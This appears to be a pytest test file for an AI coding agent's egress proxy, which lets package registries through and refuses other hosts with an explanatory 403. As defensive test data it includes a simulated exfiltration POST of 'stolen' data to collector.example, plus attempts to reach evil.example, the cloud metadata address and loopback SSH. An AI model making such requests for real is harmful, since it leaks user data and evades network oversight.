"""The network proxy on 127.0.0.1: allowed hosts pass (plain HTTP and CONNECT), other hosts are
asked about or refused with a 403 that says how to allow them, and every decision is logged.
Host names reach a stand-in upstream on 127.0.0.1 through the proxy's resolver hook: no DNS."""

from __future__ import annotations

import contextlib
import http.client
import http.server
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from core.network.child_env import proxy_environment
from core.network.hosts import Answer, HostRules
from core.network.proxy import Decision, Proxy, refusal_note


class _Upstream(http.server.ThreadingHTTPServer):
    """A stand-in for a registry: answers every request with what it received."""

    daemon_threads = True

    def __init__(self) -> None:
        self.seen: list[str] = []
        super().__init__(("127.0.0.1", 0), _Echo)


class _Echo(http.server.BaseHTTPRequestHandler):
    server: _Upstream

    def do_GET(self) -> None:
        body = f"upstream saw {self.command} {self.path}\n{self.headers}".encode()
        self.server.seen.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture(scope="module")
def shared_upstream() -> Iterator[_Upstream]:
    server = _Upstream()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def upstream(shared_upstream: _Upstream) -> _Upstream:
    shared_upstream.seen.clear()
    return shared_upstream


def _proxy(upstream: _Upstream, **kwargs: object) -> Proxy:
    """A proxy whose every host name leads to the stand-in upstream."""
    port = upstream.server_address[1]
    return Proxy(
        kwargs.pop("rules", HostRules.of()),
        resolve=lambda host, _: ("127.0.0.1", port),  # type: ignore[arg-type]
        **kwargs,
    ).start()  # type: ignore[arg-type]


def _connect(proxy: Proxy, target: str) -> tuple[str, socket.socket]:
    """CONNECT to `target` through the proxy: the status line and the open socket."""
    sock = socket.create_connection(proxy.address, timeout=10)  # type: ignore[arg-type]
    sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    reply = b""
    while b"\r\n\r\n" not in reply:
        chunk = sock.recv(4096)
        if not chunk:
            break
        reply += chunk
    head, _, rest = reply.partition(b"\r\n\r\n")
    if not head.startswith(b"HTTP/1.1 200"):
        while chunk := sock.recv(4096):
            rest += chunk
        return head.decode() + "\n\n" + rest.decode(), sock
    return head.decode(), sock


def _through_tunnel(sock: socket.socket, path: str) -> str:
    sock.sendall(f"GET {path} HTTP/1.0\r\nHost: x\r\n\r\n".encode())
    data = b""
    while chunk := sock.recv(4096):
        data += chunk
    return data.decode()


@pytest.mark.parametrize(
    "host",
    [
        "pypi.org",
        "files.pythonhosted.org",
        "registry.npmjs.org",
        "static.crates.io",
        "proxy.golang.org",
        "raw.githubusercontent.com",
        "GitHub.com.",
        "goproxy.cn",
        "pypi.tuna.tsinghua.edu.cn",
        "registry.npmmirror.com",
    ],
)
def test_a_default_host_is_tunnelled_without_asking(upstream: _Upstream, host: str) -> None:
    asked: list[str] = []
    with _proxy(upstream, ask=lambda h, p: asked.append(h) or Answer.DENY) as proxy:
        status, sock = _connect(proxy, f"{host}:443")
        with sock:
            assert status.startswith("HTTP/1.1 200"), status
            assert "upstream saw GET /simple/requests/" in _through_tunnel(sock, "/simple/requests/")
    assert asked == [] and upstream.seen == ["GET /simple/requests/"]
    assert [(d.allowed, d.reason) for d in proxy.decisions] == [(True, "allowed by the default list")]


def test_plain_http_is_forwarded_in_origin_form_without_proxy_headers(upstream: _Upstream) -> None:
    with _proxy(upstream) as proxy:
        conn = http.client.HTTPConnection(*proxy.address, timeout=10)  # type: ignore[misc]
        conn.request(
            "GET",
            "http://pypi.org/simple/six/?x=1",
            headers={"Proxy-Authorization": "Basic c2VjcmV0", "Proxy-Connection": "keep-alive"},
        )
        response = conn.getresponse()
        body = response.read().decode()
    assert response.status == 200 and body.startswith("upstream saw GET /simple/six/?x=1\n")
    assert "Proxy-Authorization" not in body and "c2VjcmV0" not in body and "Host: pypi.org" in body


def test_a_workspace_rule_allows_its_hosts(upstream: _Upstream) -> None:
    rules = HostRules.of(["*.corp.example", "artifacts.example.org"])
    with _proxy(upstream, rules=rules) as proxy:
        for host in ("pkg.corp.example", "a.b.corp.example", "artifacts.example.org"):
            status, sock = _connect(proxy, f"{host}:8443")
            sock.close()
            assert status.startswith("HTTP/1.1 200"), (host, status)
        status, sock = _connect(proxy, "corp.example:443")  # the suffix rule is not the domain itself
        sock.close()
    assert status.startswith("HTTP/1.1 403")
    assert proxy.decisions[0].reason == "allowed by the workspace's rule *.corp.example"


@pytest.mark.parametrize(
    "target",
    [
        "evil.example:443",
        "169.254.169.254:80",
        "127.0.0.1:22",
        "[::1]:443",
        "pypi.org.evil.example:443",
        "xn--pypi-org.example:443",
    ],
)
def test_an_unlisted_host_is_refused_when_no_one_can_be_asked(upstream: _Upstream, target: str) -> None:
    with _proxy(upstream) as proxy:
        status, sock = _connect(proxy, target)
        sock.close()
    host = target.rpartition(":")[0].strip("[]")
    assert status.startswith("HTTP/1.1 403 Forbidden"), status
    assert f"refused a connection to {host}:" in status and f"AGENT_NETWORK_ALLOW={host}" in status
    assert "AGENT_NETWORK=on" in status and upstream.seen == []
    assert [d.allowed for d in proxy.decisions] == [False]


def test_the_model_gets_a_note_of_what_a_command_was_refused(upstream: _Upstream) -> None:
    """An HTTPS client prints only "CONNECT tunnel failed, response 403": the note names the hosts."""
    with _proxy(upstream) as proxy:
        _connect(proxy, "pypi.org:443")[1].close()
        before = len(proxy.decisions)
        for target in ("evil.example:443", "evil.example:443", "paste.example:80", "github.com:443"):
            _connect(proxy, target)[1].close()
        note = refusal_note(proxy.decisions_since(before))
    assert note.count("refused evil.example:443") == 1 and "refused paste.example:80" in note
    assert "github.com" not in note and "pypi.org" not in note
    assert "AGENT_NETWORK_ALLOW=evil.example,paste.example" in note and "AGENT_NETWORK=on" in note
    assert refusal_note(proxy.decisions[:1]) == ""


def test_plain_http_to_an_unlisted_host_is_refused_before_anything_is_sent(upstream: _Upstream) -> None:
    with _proxy(upstream) as proxy:
        conn = http.client.HTTPConnection(*proxy.address, timeout=10)  # type: ignore[misc]
        conn.request("POST", "http://collector.example:8080/upload", body=b"stolen=" + b"x" * 5000)
        response = conn.getresponse()
        body = response.read().decode()
    assert response.status == 403 and "collector.example:8080" in body and upstream.seen == []


@pytest.mark.parametrize(
    ("answer", "passes"), [(Answer.ALLOW_ONCE, True), (Answer.ALLOW_ALWAYS, True), (Answer.DENY, False)]
)
def test_another_host_is_asked_about_once_per_session(
    upstream: _Upstream, answer: Answer, passes: bool
) -> None:
    asked: list[tuple[str, int]] = []
    remembered: list[str] = []
    logged: list[Decision] = []

    def ask(host: str, port: int) -> Answer:
        asked.append((host, port))
        return answer

    with _proxy(upstream, ask=ask, remember=remembered.append, on_decision=logged.append) as proxy:
        results = []
        for _ in range(3):
            status, sock = _connect(proxy, "Example.NET:443")
            sock.close()
            results.append(status.startswith("HTTP/1.1 200"))
    assert asked == [("example.net", 443)] and results == [passes] * 3
    assert remembered == (["example.net"] if answer is Answer.ALLOW_ALWAYS else [])
    assert logged == proxy.decisions and [d.allowed for d in logged] == [passes] * 3


def test_concurrent_connections_to_a_new_host_ask_one_question(upstream: _Upstream) -> None:
    asked: list[str] = []
    release = threading.Event()

    def ask(host: str, port: int) -> Answer:
        asked.append(host)
        release.wait(10)
        return Answer.ALLOW_ONCE

    with _proxy(upstream, ask=ask) as proxy:
        statuses: list[str] = []

        def one() -> None:
            status, sock = _connect(proxy, "slow.example:443")
            sock.close()
            statuses.append(status)

        threads = [threading.Thread(target=one) for _ in range(4)]
        for thread in threads:
            thread.start()
        release.set()
        for thread in threads:
            thread.join(20)
    assert (
        asked == ["slow.example"]
        and len(statuses) == 4
        and all(s.startswith("HTTP/1.1 200") for s in statuses)
    )


def test_a_question_that_fails_is_a_refusal(upstream: _Upstream) -> None:
    def ask(host: str, port: int) -> Answer:
        raise RuntimeError("the front end went away")

    with _proxy(upstream, ask=ask) as proxy:
        status, sock = _connect(proxy, "example.org:443")
        sock.close()
    assert status.startswith("HTTP/1.1 403") and "the user refused it" in status


@pytest.mark.parametrize(
    "request_head",
    [
        b"GET /simple/ HTTP/1.1\r\nHost: pypi.org\r\n\r\n",
        b"CONNECT pypi.org HTTP/1.1\r\n\r\n",
        b"hello\r\n\r\n",
        b"GET https://pypi.org/ HTTP/1.1\r\n\r\n",
    ],
)
def test_requests_a_proxy_cannot_serve_get_a_clear_400(upstream: _Upstream, request_head: bytes) -> None:
    with _proxy(upstream) as proxy, socket.create_connection(proxy.address, timeout=10) as sock:  # type: ignore[arg-type]
        sock.sendall(request_head)
        reply = b""
        while chunk := sock.recv(4096):
            reply += chunk
    assert reply.startswith(b"HTTP/1.1 400") and upstream.seen == []


def test_a_child_with_the_proxy_environment_goes_through_it(upstream: _Upstream) -> None:
    """urllib reads the lower-case variables: a real client takes the proxy from the environment."""
    code = (
        "import urllib.request, sys\n"
        "try:\n    print(urllib.request.urlopen('http://pypi.org/simple/', timeout=10).read().decode())\n"
        "except Exception as exc:\n    print('failed', exc)\n"
        "try:\n    urllib.request.urlopen('http://evil.example/x', timeout=10)\n"
        "except urllib.error.HTTPError as exc:\n    print(exc.code, exc.read().decode())\n"
    )
    with _proxy(upstream) as proxy:
        env = proxy_environment(dict(os.environ, https_proxy="http://user:pw@elsewhere:3128"), proxy.url)
        out = subprocess.run(
            [sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=60
        ).stdout
    assert out.startswith("upstream saw GET /simple/") and "403 deepseek-agent's network proxy refused" in out
    assert "evil.example:80" in out


UNIX_SOCKETS = pytest.mark.skipif(sys.platform == "win32", reason="a socket file: Windows has no Unix stream server")


@UNIX_SOCKETS
def test_no_network_means_no_proxy_and_no_proxy_variables(tmp_path: Path) -> None:
    """With the network off nothing listens once the proxy is closed (a socket file, so a reused TCP
    port cannot pass for it), and a child's proxy variables, the user's included, are removed."""
    path = tmp_path / "proxy.sock"
    Proxy(HostRules.of(), listen=path).start().close()
    with socket.socket(socket.AF_UNIX) as sock, pytest.raises(OSError):
        sock.connect(str(path))
    env = proxy_environment(
        {"HTTPS_PROXY": "http://corp:3128", "http_proxy": "x", "npm_config_proxy": "y", "PATH": "/bin"}, None
    )
    assert env == {"PATH": "/bin"}


@UNIX_SOCKETS
def test_the_proxy_serves_on_a_unix_socket_too(upstream: _Upstream, tmp_path: Path) -> None:
    """The proxy listens on a socket file as well as on a port, and removes the file when it stops."""
    path = tmp_path / "proxy.sock"
    with (
        Proxy(
            HostRules.of(), resolve=lambda host, _: ("127.0.0.1", upstream.server_address[1]), listen=path
        ) as proxy,
        socket.socket(socket.AF_UNIX) as sock,
    ):
        sock.connect(str(path))
        sock.sendall(b"CONNECT crates.io:443 HTTP/1.1\r\n\r\n")
        assert sock.recv(4096).startswith(b"HTTP/1.1 200")
        assert "upstream saw GET /api/v1/crates" in _through_tunnel(sock, "/api/v1/crates")
    assert not path.exists() and proxy.decisions[0].host == "crates.io"


def test_a_door_listener_handed_to_the_proxy_is_served_until_shut_down(upstream: _Upstream) -> None:
    """What a command in its own network namespace gets: a listening socket of its loopback that
    the agent serves as the proxy's own, decisions and refusals included."""
    port = upstream.server_address[1]
    with Proxy(HostRules.of(), resolve=lambda host, _: ("127.0.0.1", port)) as proxy:
        door = socket.create_server(("127.0.0.1", 0))
        proxy.serve_from(door)
        for target, allowed in (("static.crates.io:443", True), ("evil.example:443", False)):
            with socket.create_connection(door.getsockname(), timeout=10) as sock:
                sock.sendall(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
                reply = sock.recv(4096)
                assert reply.startswith(b"HTTP/1.1 200" if allowed else b"HTTP/1.1 403"), reply
                if allowed:
                    assert "upstream saw GET /crates/x" in _through_tunnel(sock, "/crates/x")
        address = door.getsockname()
        with contextlib.suppress(OSError):  # Windows refuses to shut down a listening socket
            door.shutdown(socket.SHUT_RDWR)
        door.close()
        with pytest.raises(OSError):
            socket.create_connection(address, timeout=5)
    assert [(d.host, d.allowed) for d in proxy.decisions] == [
        ("static.crates.io", True),
        ("evil.example", False),
    ]


def test_a_proxy_started_twice_serves_on_one_thread_that_close_ends(upstream: _Upstream) -> None:
    """`with _proxy(...)` starts it again: a second serving loop would outlive `close`, polling a
    closed socket for the rest of the process."""
    before = set(threading.enumerate())
    with _proxy(upstream) as proxy:
        proxy.start()
        serving = [t for t in set(threading.enumerate()) - before if t.name == "network-proxy"]
        assert len(serving) == 1
    serving[0].join(timeout=5)
    assert not serving[0].is_alive()
